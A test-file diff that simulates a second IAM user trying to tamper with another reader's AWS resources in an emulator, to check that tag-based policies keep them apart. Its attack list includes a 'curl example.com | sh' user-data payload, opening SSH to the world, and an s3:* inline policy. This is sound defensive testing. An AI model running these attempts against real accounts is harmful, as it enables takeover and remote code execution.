@@ -1,0 +1,434 @@
+"""Two readers in one account: reader B, under the same policies, cannot touch reader A's things.
+
+Reader A follows the reader's tour (every how-to page's blocks, in bash, in the index's order)
+in the emulator. Then reader B, a second IAM user in the same emulated account with keys of
+their own (so `get-caller-identity` gives B's user ID), tries to stop, modify, detach, retag
+and delete each of A's resources, to open a session on A's instance, and then pastes A's
+clean-up blocks and the stop-and-clean-up sweep into a shell of their own.
+
+moto does not enforce IAM here (and where it does, it authorizes most services against `*`
+without condition context), so every call B makes passes a gate first: the IAM evaluator of
+tests/aws/iamsim.py decides it, given the call's action and resource ARN (as
+test_permissions.py derives them, from botocore's model and parliament's IAM definitions) and a
+request context built from the emulator's REAL tags on the resources it names, the tags the
+call sets, and B's identity. A call the evaluator refuses is not sent. The gate sits in
+botocore itself (`BaseClient._make_api_call`): in this process for B's own calls, and in B's
+shell through a `sitecustomize` module that asks this process over HTTP on 127.0.0.1.
+Afterwards the audit compares A's resources, their tags, states and settings with what they
+were before B started. A fixture removes one condition from the policies and shows B through.
+
+Amazon S3 buckets and budgets are allowed by name (`crashcourse-*`), not by tag (set-up-cli
+says why): B's attempts on them are left out, and the page says what that leaves possible.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+import os
+import threading
+import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import boto3
+import botocore.client
+import pytest
+from botocore.exceptions import ClientError
+
+from conftest import ROOT, free_port
+from iamsim import Evaluator, Identity
+from test_permissions import POLICIES, Call, Known, creates, needs_of, resources
+from test_tour import CLEAN_UP_LAST, REGIONS, TOURS, Tour, pages_of
+from tour import BLOCK_TIMEOUT, Shell, ShellError, steps
+
+REGION = REGIONS[0]
+OWNER_KEY = "crashcourse:owner"
+ADMIN_KEYS = {"aws_access_key_id": "AKIAIOSFODNN7EXAMPLE", "aws_secret_access_key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}
+NOT_BY_TAG = {"s3", "budgets"}  # allowed by name: see the module's docstring
+# The pages whose blocks reader A pastes: those that make something the policies guard by tag,
+# with what they need first (set-up-cli signs in, choose-region sets the Region). The others
+# make nothing (troubleshoot-ssh, jupyter-tunnel) or only buckets and budgets (s3-data,
+# budget-alert); leaving them out keeps this test to a few minutes.
+A_PAGES = {"set-up-cli", "choose-region", "launch-instance", "restrict-ssh", "ebs-volume", "session-manager",
+           "instance-role-s3", "efs-shared", "build-vpc", "spot-instances"}
+
+SITECUSTOMIZE = '''
+import json, os, urllib.request
+import botocore.client, botocore.exceptions
+_send = botocore.client.BaseClient._make_api_call
+def _gated(self, operation, params):
+    ask = {"service": self.meta.service_model.service_name, "operation": operation, "params": params,
+           "region": self.meta.region_name}
+    request = urllib.request.Request(os.environ["CRASHCOURSE_IAM_GATE"], json.dumps(ask, default=str).encode(),
+                                     {"Content-Type": "application/json"})
+    answer = json.load(urllib.request.urlopen(request, timeout=60))
+    if not answer["allowed"]:
+        raise botocore.exceptions.ClientError({"Error": {"Code": "AccessDenied", "Message": answer["why"]}}, operation)
+    return _send(self, operation, params)
+botocore.client.BaseClient._make_api_call = _gated
+# B's waits are on what the gate kept B from changing: they would poll for ten minutes.
+import botocore.waiter
+_wait = botocore.waiter.Waiter.wait
+def _short(self, **kwargs):
+    kwargs["WaiterConfig"] = {"Delay": 0.2, "MaxAttempts": 5}
+    return _wait(self, **kwargs)
+botocore.waiter.Waiter.wait = _short
+'''
+
+
+def admin(endpoint: str, service: str, region: str = REGION):
+    """The emulator seen from outside: reads the real tags and state, never gated."""
+    return boto3.client(service, endpoint_url=endpoint, region_name=region, **ADMIN_KEYS)
+
+
+class Gate:
+    """Decides B's calls with the IAM evaluator and the emulator's real tags; keeps a log."""
+
+    def __init__(self, endpoint: str, who: Identity, policies: list[dict]):
+        self.endpoint, self.who = endpoint, who
+        self.iam = Evaluator(policies)
+        self.log: list[tuple[str, str, bool]] = []  # (call, why, allowed)
+
+    def tags(self, kind: str, value: str, arn: str, region: str) -> dict[str, str] | None:
+        """The real tags of the resource a call names (None: it does not exist)."""
+        def pairs(items):
+            return {t["Key"]: t["Value"] for t in items or []}
+        try:
+            if kind == "key-pair":
+                found = admin(self.endpoint, "ec2", region).describe_key_pairs(KeyNames=[value])["KeyPairs"]
+                return pairs(found[0].get("Tags")) if found else None
+            if arn.startswith("arn:aws:ec2:"):
+                found = admin(self.endpoint, "ec2", region).describe_tags(Filters=[{"Name": "resource-id", "Values": [value]}])
+                return pairs(found["Tags"])
+            if kind == "role":
+                return pairs(admin(self.endpoint, "iam").list_role_tags(RoleName=value)["Tags"])
+            if kind == "instance-profile":
+                return pairs(admin(self.endpoint, "iam").get_instance_profile(InstanceProfileName=value)["InstanceProfile"].get("Tags"))
+            if kind == "topic":
+                return pairs(admin(self.endpoint, "sns", region).list_tags_for_resource(ResourceArn=arn)["Tags"])
+            if kind.startswith("rule"):
+                return pairs(admin(self.endpoint, "events", region).list_tags_for_resource(ResourceARN=arn)["Tags"])
+            if kind == "file-system":
+                found = admin(self.endpoint, "efs", region).describe_file_systems(FileSystemId=value)["FileSystems"]
+                return pairs(found[0].get("Tags")) if found else None
+        except ClientError:
+            return None
+        return None
+
+    def judge(self, service: str, operation: str, params: dict, region: str) -> tuple[bool, str]:
+        call = Call(Path("reader-b"), "", f"{service}.{operation}", service, operation, params)
+        known = Known()
+        for action in [n.action for n in needs_of(call, {}, known)]:
+            for r in resources(action, params, params, {}):
+                if r.source and not creates(action, r.kind) or (r.source and "Tag" in action):
+                    real = self.tags(r.kind, r.source.rsplit("/", 1)[-1].rsplit(":", 1)[-1], r.arn, region)
+                    known.tags[r.source] = real or {}
+                if r.kind == "role" and r.source:
+                    try:
+                        role = admin(self.endpoint, "iam").get_role(RoleName=r.source)["Role"]
+                        boundary = role.get("PermissionsBoundary", {}).get("PermissionsBoundaryArn")
+                        if boundary:
+                            known.boundaries[r.source] = boundary
+                    except ClientError:
+                        pass
+        refused = []
+        for need in needs_of(call, {}, known):
+            decision = self.iam.decide(need.action, need.resource.replace(":eu-west-2:", f":{region}:"), self.who, need.context)
+            if not decision.allowed:
+                refused.append(f"{need.action} on {need.resource} ({decision.decision})")
+        why = "; ".join(refused) or "allowed"
+        self.log.append((f"{service}.{operation} {json.dumps(params, default=str)[:200]}", why, not refused))
+        return not refused, why
+
+    def close(self):
+        self.iam.close()
+
+
+def gated_client(endpoint: str, service: str, keys: dict, gate: Gate, region: str = REGION):
+    """A boto3 client with B's keys whose every call passes the gate first."""
+    client = boto3.client(service, endpoint_url=endpoint, region_name=region, **keys)
+
+    def check(params, model, **_):
+        allowed, why = gate.judge(service, model.name, params, region)
+        if not allowed:
+            raise ClientError({"Error": {"Code": "AccessDenied", "Message": why}}, model.name)
+    client.meta.events.register("before-parameter-build", check)
+    return client
+
+
+def serve_gate(gate: Gate) -> tuple[ThreadingHTTPServer, str]:
+    """The gate for B's shell, on 127.0.0.1: the sitecustomize module asks it before each call."""
+    lock = threading.Lock()
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_POST(self):
+            ask = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+            with lock:  # one evaluator process answers one question at a time
+                allowed, why = gate.judge(ask["service"], ask["operation"], ask["params"], ask["region"] or REGION)
+            body = json.dumps({"allowed": allowed, "why": why}).encode()
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server, f"http://127.0.0.1:{server.server_address[1]}/"
+
+
+def state_of_a(endpoint: str, owner: str) -> dict[str, object]:
+    """What reader A has, as the account shows it: each resource with its tags, state and settings."""
+    ec2, iam = admin(endpoint, "ec2"), admin(endpoint, "iam")
+    mine = [{"Name": f"tag:{OWNER_KEY}", "Values": [owner]}]
+    state: dict[str, object] = {}
+    for r in ec2.describe_instances(Filters=mine)["Reservations"]:
+        for i in r["Instances"]:
+            data = ec2.describe_instance_attribute(InstanceId=i["InstanceId"], Attribute="userData").get("UserData", {})
+            groups = sorted(g["GroupId"] for g in i.get("SecurityGroups", []))
+            profile = i.get("IamInstanceProfile", {}).get("Arn")
+            state[f"instance {i['InstanceId']}"] = (i["State"]["Name"], sorted(map(str, i.get("Tags", []))), data, groups, profile)
+    for v in ec2.describe_volumes(Filters=mine)["Volumes"]:
+        state[f"volume {v['VolumeId']}"] = (v["State"], v["Size"], sorted(a["InstanceId"] for a in v["Attachments"]), sorted(map(str, v["Tags"])))
+    for s in ec2.describe_snapshots(OwnerIds=["self"], Filters=mine)["Snapshots"]:
+        state[f"snapshot {s['SnapshotId']}"] = sorted(map(str, s["Tags"]))
+    for g in ec2.describe_security_groups(Filters=mine)["SecurityGroups"]:
+        state[f"security group {g['GroupId']}"] = (json.dumps(g["IpPermissions"], sort_keys=True), sorted(map(str, g["Tags"])))
+    for k in ec2.describe_key_pairs(Filters=mine)["KeyPairs"]:
+        state[f"key pair {k['KeyName']}"] = sorted(map(str, k.get("Tags", [])))
+    for kind, call, key in (("vpc", "describe_vpcs", "Vpcs"), ("subnet", "describe_subnets", "Subnets"),
+                            ("route table", "describe_route_tables", "RouteTables"),
+                            ("internet gateway", "describe_internet_gateways", "InternetGateways")):
+        for item in getattr(ec2, call)(Filters=mine)[key]:
+            ident = next(v for k, v in item.items() if k.endswith("Id") and k[:-2].lower() in kind.replace(" ", ""))
+            state[f"{kind} {ident}"] = sorted(map(str, item.get("Tags", [])))
+    for role in iam.list_roles()["Roles"]:
+        tags = {t["Key"]: t["Value"] for t in iam.list_role_tags(RoleName=role["RoleName"])["Tags"]}
+        if tags.get(OWNER_KEY) == owner:
+            full = iam.get_role(RoleName=role["RoleName"])["Role"]
+            attached = sorted(p["PolicyArn"] for p in iam.list_attached_role_policies(RoleName=role["RoleName"])["AttachedPolicies"])
+            inline = sorted(iam.list_role_policies(RoleName=role["RoleName"])["PolicyNames"])
+            state[f"role {role['RoleName']}"] = (sorted(tags.items()), full.get("PermissionsBoundary"), attached, inline)
+    for profile in iam.list_instance_profiles()["InstanceProfiles"]:
+        tags = {t["Key"]: t["Value"] for t in profile.get("Tags", [])}
+        if profile["InstanceProfileName"].startswith("crashcourse-"):
+            state[f"instance profile {profile['InstanceProfileName']}"] = (sorted(tags.items()), sorted(r["RoleName"] for r in profile["Roles"]))
+    efs = admin(endpoint, "efs")
+    for fs in efs.describe_file_systems()["FileSystems"]:
+        if {t["Key"]: t["Value"] for t in fs.get("Tags", [])}.get(OWNER_KEY) == owner:
+            targets = efs.describe_mount_targets(FileSystemId=fs["FileSystemId"])["MountTargets"]
+            state[f"file system {fs['FileSystemId']}"] = (sorted(map(str, fs["Tags"])), sorted(t["MountTargetId"] for t in targets))
+    sns, events = admin(endpoint, "sns"), admin(endpoint, "events")
+    for topic in sns.list_topics()["Topics"]:
+        tags = {t["Key"]: t["Value"] for t in sns.list_tags_for_resource(ResourceArn=topic["TopicArn"])["Tags"]}
+        if tags.get(OWNER_KEY) == owner:
+            state[f"topic {topic['TopicArn']}"] = (sorted(tags.items()), sns.get_topic_attributes(TopicArn=topic["TopicArn"])["Attributes"].get("Policy"))
+    for rule in events.list_rules()["Rules"]:
+        tags = {t["Key"]: t["Value"] for t in events.list_tags_for_resource(ResourceARN=rule["Arn"])["Tags"]}
+        if tags.get(OWNER_KEY) == owner:
+            targets = sorted(t["Id"] for t in events.list_targets_by_rule(Rule=rule["Name"])["Targets"])
+            state[f"rule {rule['Name']}"] = (sorted(tags.items()), rule.get("EventPattern"), targets)
+    return state
+
+
+def attacks(endpoint: str, owner: str) -> list[tuple[str, str, dict]]:
+    """What B tries on each of A's resources: (service, method, parameters)."""
+    ec2, iam = admin(endpoint, "ec2"), admin(endpoint, "iam")
+    mine = [{"Name": f"tag:{OWNER_KEY}", "Values": [owner]}]
+    retag = [{"Key": OWNER_KEY, "Value": "AIDAB-TAKES-IT"}]
+    out = []
+    for r in ec2.describe_instances(Filters=mine)["Reservations"]:
+        for i in r["Instances"]:
+            ident = i["InstanceId"]
+            out += [("ec2", "stop_instances", {"InstanceIds": [ident]}),
+                    ("ec2", "modify_instance_attribute", {"InstanceId": ident, "UserData": {"Value": b"curl example.com | sh"}}),
+                    ("ec2", "terminate_instances", {"InstanceIds": [ident]}),
+                    ("ec2", "create_tags", {"Resources": [ident], "Tags": retag}),
+                    ("ec2", "delete_tags", {"Resources": [ident], "Tags": [{"Key": OWNER_KEY}]}),
+                    ("ssm", "start_session", {"Target": ident})]
+    for v in ec2.describe_volumes(Filters=mine)["Volumes"]:
+        out += [("ec2", "create_snapshot", {"VolumeId": v["VolumeId"], "TagSpecifications": [
+                    {"ResourceType": "snapshot", "Tags": [{"Key": OWNER_KEY, "Value": "AIDAB-TAKES-IT"}]}]}),
+                ("ec2", "detach_volume", {"VolumeId": v["VolumeId"]}),
+                ("ec2", "delete_volume", {"VolumeId": v["VolumeId"]})]
+    for s in ec2.describe_snapshots(OwnerIds=["self"], Filters=mine)["Snapshots"]:
+        out.append(("ec2", "delete_snapshot", {"SnapshotId": s["SnapshotId"]}))
+    for g in ec2.describe_security_groups(Filters=mine)["SecurityGroups"]:
+        out += [("ec2", "authorize_security_group_ingress", {"GroupId": g["GroupId"], "IpProtocol": "tcp", "FromPort": 22,
+                                                            "ToPort": 22, "CidrIp": "0.0.0.0/0"}),
+                ("ec2", "delete_security_group", {"GroupId": g["GroupId"]}),
+                ("ec2", "create_tags", {"Resources": [g["GroupId"]], "Tags": retag})]
+    for k in ec2.describe_key_pairs(Filters=mine)["KeyPairs"]:
+        out.append(("ec2", "delete_key_pair", {"KeyName": k["KeyName"]}))
+    for vpc in ec2.describe_vpcs(Filters=mine)["Vpcs"]:
+        out += [("ec2", "create_subnet", {"VpcId": vpc["VpcId"], "CidrBlock": "10.0.200.0/24", "TagSpecifications": [
+                    {"ResourceType": "subnet", "Tags": [{"Key": OWNER_KEY, "Value": "AIDAB-TAKES-IT"}]}]}),
+                ("ec2", "delete_vpc", {"VpcId": vpc["VpcId"]})]
+    for subnet in ec2.describe_subnets(Filters=mine)["Subnets"]:
+        out.append(("ec2", "delete_subnet", {"SubnetId": subnet["SubnetId"]}))
+    for role in iam.list_roles()["Roles"]:
+        name = role["RoleName"]
+        tags = {t["Key"]: t["Value"] for t in iam.list_role_tags(RoleName=name)["Tags"]}
+        if tags.get(OWNER_KEY) != owner:
+            continue
+        out += [("iam", "attach_role_policy", {"RoleName": name, "PolicyArn": "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"}),
+                ("iam", "put_role_policy", {"RoleName": name, "PolicyName": "more", "PolicyDocument": json.dumps(
+                    {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}]})}),
+                ("iam", "detach_role_policy", {"RoleName": name, "PolicyArn": "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"}),
+                ("iam", "delete_role_permissions_boundary", {"RoleName": name}),
+                ("iam", "tag_role", {"RoleName": name, "Tags": retag}),
+                ("iam", "untag_role", {"RoleName": name, "TagKeys": [OWNER_KEY]}),
+                ("iam", "delete_role", {"RoleName": name})]
+    for profile in iam.list_instance_profiles()["InstanceProfiles"]:
+        tags = {t["Key"]: t["Value"] for t in profile.get("Tags", [])}
+        if tags.get(OWNER_KEY) == owner:
+            for role in profile["Roles"]:
+                out.append(("iam", "remove_role_from_instance_profile", {"InstanceProfileName": profile["InstanceProfileName"],
+                                                                        "RoleName": role["RoleName"]}))
+            out.append(("iam", "delete_instance_profile", {"InstanceProfileName": profile["InstanceProfileName"]}))
+    efs = admin(endpoint, "efs")
+    for fs in efs.describe_file_systems()["FileSystems"]:
+        if {t["Key"]: t["Value"] for t in fs.get("Tags", [])}.get(OWNER_KEY) == owner:
+            for target in efs.describe_mount_targets(FileSystemId=fs["FileSystemId"])["MountTargets"]:
+                out.append(("efs", "delete_mount_target", {"MountTargetId": target["MountTargetId"]}))
+            out.append(("efs", "delete_file_system", {"FileSystemId": fs["FileSystemId"]}))
+    sns, events = admin(endpoint, "sns"), admin(endpoint, "events")
+    for topic in sns.list_topics()["Topics"]:
+        arn = topic["TopicArn"]
+        if {t["Key"]: t["Value"] for t in sns.list_tags_for_resource(ResourceArn=arn)["Tags"]}.get(OWNER_KEY) == owner:
+            out += [("sns", "set_topic_attributes", {"TopicArn": arn, "AttributeName": "Policy", "AttributeValue": "{}"}),
+                    ("sns", "tag_resource", {"ResourceArn": arn, "Tags": retag}),
+                    ("sns", "delete_topic", {"TopicArn": arn})]
+    for rule in events.list_rules()["Rules"]:
+        if {t["Key"]: t["Value"] for t in events.list_tags_for_resource(ResourceARN=rule["Arn"])["Tags"]}.get(OWNER_KEY) == owner:
+            out += [("events", "remove_targets", {"Rule": rule["Name"], "Ids": ["email-me"]}),
+                    ("events", "put_rule", {"Name": rule["Name"], "EventPattern": '{"source": ["aws.ec2"]}',
+                                            "Tags": [{"Key": OWNER_KEY, "Value": "AIDAB-TAKES-IT"}]}),
+                    ("events", "delete_rule", {"Name": rule["Name"]})]
+    return out
+
+
+def reader_b(endpoint: str) -> tuple[dict, Identity]:
+    """A second IAM user in the same account, with keys of its own."""
+    iam = admin(endpoint, "iam")
+    iam.create_user(UserName="bob")
+    key = iam.create_access_key(UserName="bob")["AccessKey"]
+    keys = {"aws_access_key_id": key["AccessKeyId"], "aws_secret_access_key": key["SecretAccessKey"]}
+    me = boto3.client("sts", endpoint_url=endpoint, region_name=REGION, **keys).get_caller_identity()
+    return keys, Identity(me["Arn"], me["UserId"], me["Account"])
+
+
+def weakened(policies: list[dict]) -> list[dict]:
+    """The fixture: the policies with one condition removed (EC2 changes on anyone's resources)."""
+    out = copy.deepcopy(policies)
+    for policy in out:
+        for statement in policy["Statement"]:
+            if statement.get("Sid") == "ChangeOnlyOwnEC2Resources":
+                del statement["Condition"]
+                return out
+    raise AssertionError("no statement ChangeOnlyOwnEC2Resources in the policies")
+
+
+def test_reader_b_cannot_touch_reader_a(fresh_account, tmp_path):
+    started = time.monotonic()
+    endpoint = fresh_account
+    index, snippets, _ = TOURS["howto"]
+    files = [f for f in pages_of(index, snippets) if f.stem in A_PAGES]
+    assert len(files) == len(A_PAGES), f"pages not in howto/index.md: {A_PAGES - {f.stem for f in files}}"
+    home_a = tmp_path / "a"
+    home_a.mkdir()
+    tour = Tour("bash", endpoint, home_a)
+    terminal = Shell("bash", tour.env, home_a)
+    try:
+        for path in files:  # reader A follows every page, as in the tour (bash)
+            for step in steps(path, cleanup=False):
+                tour.run(terminal, step)
+    finally:
+        terminal.close()
+    owner_a = admin(endpoint, "sts").get_caller_identity()["UserId"]
+    before = state_of_a(endpoint, owner_a)
+    assert len(before) > 10, f"reader A's tour left too little to attack: {sorted(before)}"
+    a_seconds = time.monotonic() - started
+
+    keys, b = reader_b(endpoint)
+    assert b.userid != owner_a
+    policies = [json.loads(p.read_text()) for p in POLICIES]
+    gate = Gate(endpoint, b, policies)
+    server, url = serve_gate(gate)
+    through = []
+    try:
+        for service, method, params in attacks(endpoint, owner_a):  # B's direct attempts
+            client = gated_client(endpoint, service, keys, gate)
+            try:
+                getattr(client, method)(**params)
+                through.append(f"{service}.{method} {params}")
+            except ClientError as e:
+                if e.response["Error"]["Code"] != "AccessDenied":
+                    through.append(f"{service}.{method} {params}: sent, and the emulator answered {e}")
+        refused_direct = sum(1 for _, _, allowed in gate.log if not allowed)
+
+        # B pastes A's clean-up blocks and the sweep into a shell of their own.
+        gatedir = tmp_path / "gate"
+        gatedir.mkdir()
+        (gatedir / "sitecustomize.py").write_text(SITECUSTOMIZE)
+        home_b = tmp_path / "b"
+        (home_b / ".aws").mkdir(parents=True)
+        (home_b / ".aws" / "config").write_text(f"[default]\nregion = {REGION}\n")
+        env = Tour("bash", endpoint, home_b).env
+        env.update(PYTHONPATH=str(gatedir), CRASHCOURSE_IAM_GATE=url, AWS_ACCESS_KEY_ID=keys["aws_access_key_id"],
+                   AWS_SECRET_ACCESS_KEY=keys["aws_secret_access_key"])
+        cleanups = [*reversed(files), *(f for f in pages_of(index, snippets) if f.stem == CLEAN_UP_LAST)]
+        pasted, b_started, stuck, slow = 0, time.monotonic(), [], {}
+        print(f"\nreader A's tour: {a_seconds:.0f} s; B's direct attempts: {time.monotonic() - started - a_seconds:.0f} s")
+        for path in cleanups:
+            blocks = steps(path, cleanup=True)
+            if path.stem == CLEAN_UP_LAST:
+                blocks = steps(path, cleanup=False) + blocks
+            shell = Shell("bash", env, home_b)
+            try:
+                for step in blocks:
+                    block_started = time.monotonic()
+                    try:
+                        shell.paste(step.code)  # B's commands may fail: that is the point
+                        pasted += 1
+                    except ShellError:
+                        stuck.append(step.where())
+                        shell.close()
+                        shell = Shell("bash", env, home_b)
+                    slow[step.where()] = time.monotonic() - block_started
+            finally:
+                shell.close()
+        print(f"B pasted {pasted} blocks in {time.monotonic() - b_started:.0f} s; slowest: "
+              + ", ".join(f"{w} {t:.0f} s" for w, t in sorted(slow.items(), key=lambda kv: -kv[1])[:5]))
+        after = state_of_a(endpoint, owner_a)
+    finally:
+        server.shutdown()
+        gate.close()
+
+    changed = {k: (before.get(k), after.get(k)) for k in set(before) | set(after) if before.get(k) != after.get(k)}
+    if record := os.environ.get("TWO_READERS_LOG"):  # while debugging: every call B made, and its verdict
+        Path(record).write_text(json.dumps({"log": gate.log, "changed": changed, "before": before}, indent=1, default=str))
+    sent_by_b = [call for call, _, allowed in gate.log if allowed and not call.startswith(("sts.", "ec2.Describe"))]
+    print(f"\nreader A's tour: {a_seconds:.0f} s; B: {len(gate.log)} calls judged, {refused_direct} direct attempts refused, "
+          f"{pasted} clean-up blocks pasted; whole test {time.monotonic() - started:.0f} s")
+    if stuck:  # a block that waits for what B could not delete (the EFS loop checks for 5 minutes)
+        print(f"B's blocks that had not returned after {BLOCK_TIMEOUT} s: {stuck}")
+    assert not through, "reader B got through:\n" + "\n".join(through)
+    assert not changed, "reader A's resources changed while reader B tried:\n" + "\n".join(
+        f"{k}: {v[0]} -> {v[1]}" for k, v in sorted(changed.items()))
+    assert refused_direct >= len(attacks(endpoint, owner_a)), "an attempt was not judged by the gate"
+    assert not [c for c in sent_by_b if any(w in c for w in ("Delete", "Terminate", "Stop", "Detach", "Modify"))
+                and not any(s in c for s in NOT_BY_TAG)], sent_by_b
+
+    # The fixture: without the condition on EC2 changes, B stops A's instance.
+    instance = next(k.split()[1] for k in before if k.startswith("instance ") and before[k][0] == "running")
+    loose = Gate(endpoint, b, weakened(policies))
+    try:
+        gated_client(endpoint, "ec2", keys, loose).stop_instances(InstanceIds=[instance])
+    finally:
+        loose.close()
+    state = admin(endpoint, "ec2").describe_instances(InstanceIds=[instance])["Reservations"][0]["Instances"][0]["State"]["Name"]
+    assert state in ("stopping", "stopped"), state
